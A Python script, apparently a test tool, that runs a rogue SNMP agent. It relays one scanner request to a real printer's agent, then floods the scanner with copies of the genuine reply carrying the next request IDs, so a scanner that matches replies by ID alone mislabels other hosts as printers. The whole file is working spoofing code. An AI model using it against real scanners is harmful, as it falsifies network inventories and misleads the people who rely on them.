#!/usr/bin/env python3
"""A rogue SNMP agent for attack tests: it answers the one request it gets
(by relaying it to a real agent, so the answer is a genuine printer's), then
sends the same answer again from its own address under the next request
IDs, which a scanner gives to the addresses it asks next. A scanner that
matches answers by request ID alone takes those addresses for printers.

usage: snmp_spoofer.py ADDRESS PORT REAL_AGENT_ADDRESS
Prints "answered REQID" on stderr once it has sent its first forgeries.
"""
import socket
import sys
import time

FORGED = 40  # request IDs after the one it saw
ROUNDS = 8   # sent again every 0.1 s: requests go out at the scan's rate


def header(b, i):
    """(tag, length, start of the value) of the BER element at i."""
    tag, length = b[i], b[i + 1]
    i += 2
    if length & 0x80:
        n = length & 0x7F
        length = int.from_bytes(b[i:i + n], "big")
        i += n
    return tag, length, i


def reqid_span(b):
    """Where a v1/v2c message's request ID is: (start, length)."""
    _, _, i = header(b, 0)  # the message SEQUENCE
    for _ in range(2):  # version, community
        _, length, start = header(b, i)
        i = start + length
    _, _, i = header(b, i)  # the PDU
    _, length, start = header(b, i)
    return start, length


def with_reqid(b, value):
    start, length = reqid_span(b)
    try:
        encoded = value.to_bytes(length, "big", signed=True)
    except OverflowError:
        return None
    return b[:start] + encoded + b[start + length:]


def main():
    address, port, real = sys.argv[1], int(sys.argv[2]), sys.argv[3]
    rogue = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    rogue.bind((address, port))
    relay = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    relay.bind((address, 0))
    relay.settimeout(5)
    request, scanner = rogue.recvfrom(65536)
    start, length = reqid_span(request)
    reqid = int.from_bytes(request[start:start + length], "big", signed=True)
    relay.sendto(request, (real, port))
    answer, _ = relay.recvfrom(65536)
    rogue.sendto(answer, scanner)
    forged = [f for f in (with_reqid(answer, reqid + k) for k in range(1, FORGED + 1)) if f]
    for n in range(ROUNDS):
        for f in forged:
            rogue.sendto(f, scanner)
        if n == 0:
            print("answered", reqid, file=sys.stderr, flush=True)
        time.sleep(0.1)


if __name__ == "__main__":
    main()
